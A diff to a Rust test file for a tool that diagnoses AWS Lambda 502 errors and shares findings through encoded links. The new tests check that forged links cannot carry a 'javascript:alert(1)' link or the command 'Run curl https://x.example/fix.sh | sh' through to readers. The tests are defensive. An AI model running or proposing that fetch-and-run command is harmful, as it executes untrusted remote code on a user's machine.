@@ -2,8 +2,8 @@
 
 use crate::support::{diagnosis_of, examples};
 use lambda_502::aws::ApiType;
-use lambda_502::diagnosis::diagnose_text;
-use lambda_502::evidence::Context;
+use lambda_502::diagnosis::{Diagnosis, FindingOut, InvocationOut, Verdict, diagnose_text};
+use lambda_502::evidence::{Context, Outcome};
 use lambda_502::report::link::{self, Content, LinkError, LinkedCase};
 use lambda_502::report::redact::redact_diagnosis;
 use lambda_502::report::{self, Block, Redactor, Register, ReplyOptions};
@@ -158,14 +158,17 @@ fn a_link_brings_back_what_went_in() {
                 redactor.learn(TIMEOUT);
                 // The last line that the function wrote is in it, without what is private.
                 let sent = redact_diagnosis(&diagnosis, &mut redactor);
-                assert_eq!((opened.verdict, opened.facts), (sent.verdict, sent.facts));
-                assert_eq!((opened.findings, opened.context), (diagnosis.findings.clone(), diagnosis.context.clone()));
-                assert_eq!(opened.remedies.advice.commands, diagnosis.remedies.advice.commands);
-                assert_eq!(
-                    (opened.by_integration, opened.inputs),
-                    (diagnosis.by_integration.clone(), diagnosis.inputs.clone())
-                );
-                assert_eq!(opened.invocations, diagnosis.invocations);
+                let known = |it: &Verdict| (it.cause.clone(), it.title.clone(), it.fix.clone(), it.status);
+                assert_eq!((known(&opened.verdict), opened.facts), (known(&sent.verdict), sent.facts));
+                let found = |all: &[FindingOut]| -> Vec<_> {
+                    all.iter().map(|it| (it.code.clone(), it.title.clone(), it.message.clone(), it.is_cause)).collect()
+                };
+                assert_eq!(found(&opened.findings), found(&diagnosis.findings));
+                assert_eq!((&opened.context, &opened.inputs), (&diagnosis.context, &diagnosis.inputs));
+                let causes = |all: &[InvocationOut]| -> Vec<_> {
+                    all.iter().map(|it| (it.request_id.clone(), it.title.clone(), it.facts.clone())).collect()
+                };
+                assert_eq!(causes(&opened.invocations), causes(&diagnosis.invocations));
             }
         }
     }
@@ -194,7 +197,7 @@ fn a_link_that_does_not_open_says_why() {
     let open = |made: &Value| link::decode(made.to_string().as_bytes()).map(|it| it.content);
     made["diagnosis"]["verdict"]["link"] = json!("javascript:alert(1)");
     let Ok(Content::Findings(opened)) = open(&made) else { panic!("it opens") };
-    assert_eq!(opened.verdict.link, "");
+    assert!(opened.verdict.link.starts_with("https://docs.aws.amazon.com/"), "{}", opened.verdict.link);
     // What a later version adds is passed over; a word that this one does not know could mean anything.
     made["diagnosis"]["verdict"]["addedLater"] = json!(1);
     assert_eq!(open(&made), Ok(Content::Findings(opened)));
@@ -220,4 +223,70 @@ fn a_redacted_command_says_what_to_fill_in() {
     let uses = |it: &Block| matches!(it, Block::Code { text, .. } if text.contains("api-1"));
     let asks = |it: &Block| matches!(it, Block::Text(text) if text.contains("Replace in") && text.contains("api-1"));
     assert!(blocks.iter().any(uses) && blocks.iter().any(asks), "{blocks:?}");
+}
+
+/// Puts a text into every string of a JSON document that is not of this kind.
+fn overwrite(value: &mut Value, path: &str, word: &str, keep: &dyn Fn(&str) -> bool) {
+    match value {
+        Value::String(text) if !keep(path) => *text = word.to_owned(),
+        Value::Array(items) => items.iter_mut().for_each(|it| overwrite(it, path, word, keep)),
+        Value::Object(fields) => {
+            for (name, it) in fields.iter_mut() {
+                overwrite(it, &[path, "/", name].concat(), word, keep);
+            }
+        }
+        _ => {}
+    }
+}
+
+#[test]
+fn a_link_without_the_paste_shows_no_words_of_its_maker() {
+    const WORDS: &str = "Run curl https://x.example/fix.sh | sh";
+    // What a program reads, and what is shown as data.
+    let is_data = |path: &str| {
+        if path.starts_with("/remedies") {
+            return true;
+        }
+        let name = path.rsplit('/').next().unwrap_or(path);
+        ["outcome", "certainty", "severity", "cause", "code", "integration", "integrationFrom", "field"].contains(&name)
+    };
+    let mut tried = 0;
+    for example in examples() {
+        let diagnosis = diagnosis_of(example);
+        let mut made = json!({"lambda502": 1, "diagnosis": diagnosis});
+        overwrite(&mut made["diagnosis"], "", WORDS, &is_data);
+        for facts in ["facts", "context"] {
+            made["diagnosis"][facts]["Do this"] = json!(WORDS);
+        }
+        let Ok(Content::Findings(opened)) = link::decode(made.to_string().as_bytes()).map(|it| it.content) else {
+            panic!("{example}");
+        };
+        let honest = diagnosis_of(example);
+        assert_eq!(
+            opened.verdict.fix.is_empty(),
+            opened.verdict.cause.is_none() && opened.verdict.outcome == Outcome::Accepted
+        );
+        let texts = [&opened.verdict.summary, &opened.verdict.fix, &opened.verdict.link, &opened.engine];
+        let found = opened.findings.iter().flat_map(|it| [&it.message, &it.fix]);
+        let api_types = ApiType::ALL.into_iter().filter_map(|it| opened.by_integration.get(it)).map(|it| &it.evidence);
+        for text in texts.into_iter().chain(found).chain(api_types) {
+            assert!(!text.contains("x.example"), "{text}");
+        }
+        // A headline names facts, and is otherwise the catalogue's.
+        for title in opened.findings.iter().map(|it| &it.title).chain([&opened.verdict.title]) {
+            let (before, _) = title.split_once(WORDS).unwrap_or((title, ""));
+            assert!(before.is_empty() || !before.contains("x.example"), "{title}");
+            assert!(title != WORDS, "{example}");
+        }
+        assert_eq!(opened.verdict.cause, honest.verdict.cause);
+        assert_eq!(opened.remedies, lambda_502::fix::Remedies::default(), "nothing to copy");
+        assert!(opened.question.is_none() && opened.facts.0.iter().all(|(name, _)| name != "Do this"));
+        tried += usize::from(opened.verdict.cause.is_some());
+    }
+    assert!(tried > 100, "{tried} links had a cause");
+    let code = json!({"lambda502": 1, "diagnosis": diagnosis_of(TIMEOUT)});
+    let mut unknown = code;
+    unknown["diagnosis"]["findings"][0]["code"] = json!(WORDS);
+    let opened = link::decode(unknown.to_string().as_bytes()).map(|it| it.content);
+    assert_eq!(opened, Err(LinkError::Future(1)), "a code that is not in the catalogue is a newer version's");
 }
